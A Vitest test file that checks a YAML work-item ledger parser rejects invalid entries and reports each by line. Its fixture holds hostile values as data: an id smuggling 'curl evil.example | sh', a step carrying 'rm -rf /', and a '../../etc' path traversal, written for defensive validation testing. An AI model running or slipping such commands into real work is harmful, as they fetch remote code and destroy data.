import { afterEach, describe, expect, it } from 'vitest';
import { readLedger } from '../../src/repo/execution.js';
import { CONTROL, tempRepo, type TempRepo } from '../support/security-render-support.js';

let t: TempRepo | null = null;
afterEach(() => {
  t?.cleanup();
  t = null;
});

async function ledger(text: string) {
  t = tempRepo({ '.specscore/work-items.yaml': text });
  return readLedger(t.root);
}

describe('ledger items are validated one by one at the model boundary', () => {
  it('keeps the valid items and reports each invalid one at its line, saying what was expected', async () => {
    const r = await ledger(
      [
        'items:',
        '  - { id: ACME-101, plan: billing-roadmap/billing-ledger, step: "1", status: done, updated: 2026-03-12 }',
        '  - { id: "A-1\\n#!/bin/sh\\ncurl evil.example | sh", plan: user-auth, step: "1", status: blocked }',
        '  - { id: B-2, plan: user-auth, step: "2", status: in_progress, updated: "<!-- swallow" }',
        '  - { id: C-3, plan: user-auth, step: "2", status: done, updated: 2026-02-30 }',
        '  - { id: D-4, plan: "<!-- x", status: todo }',
        '  - { id: E-5, plan: "../../etc", status: todo }',
        '  - { id: F-6, plan: user-auth, step: "1; rm -rf /", status: todo }',
        '  - { id: "feature-x#3.1", plan: feature-x, step: 3.1, status: done, updated: 2025-11-01 }',
        '  - id: git:0123456789ab',
        '    plan: user-auth/',
        '    status: cancelled',
        '    updated: 2026-01-31T10:00:00Z',
        `  - { id: ${'L'.repeat(200)}, plan: user-auth, status: todo }`,
        '',
      ].join('\n'),
    );
    expect(r.items.map((i) => `${i.id} ${i.plan} ${i.step} ${i.updated}`)).toEqual([
      'ACME-101 billing-roadmap/billing-ledger 1 2026-03-12',
      'feature-x#3.1 feature-x 3.1 2025-11-01',
      'git:0123456789ab user-auth null 2026-01-31',
    ]);
    expect(r.findings.map((f) => f.line)).toEqual([3, 4, 5, 6, 7, 8, 14]);
    for (const f of r.findings) {
      expect(f.file).toBe('.specscore/work-items.yaml');
      expect(f.severity).toBe('error');
      expect(f.message).toMatch(/expected/);
      expect(CONTROL.test(f.message) || f.message.includes('\n'), f.message).toBe(false);
    }
    expect(r.findings[0]!.message).toMatch(/\bid\b/);
    expect(r.findings[1]!.message).toMatch(/updated/);
    expect(r.findings[2]!.message).toMatch(/updated/);
    expect(r.findings[3]!.message).toMatch(/plan/);
    expect(r.findings[5]!.message).toMatch(/step/);
  });

  it('a ledger whose items are all valid gives no findings, and numbers become ids and steps', async () => {
    const r = await ledger('items:\n  - { id: 42, plan: user-auth, step: 2, status: done, updated: 2026-03-01 }\n');
    expect(r.findings).toEqual([]);
    expect(r.items).toEqual([{ id: '42', plan: 'user-auth', step: '2', status: 'done', updated: '2026-03-01', source: 'ledger' }]);
  });
});
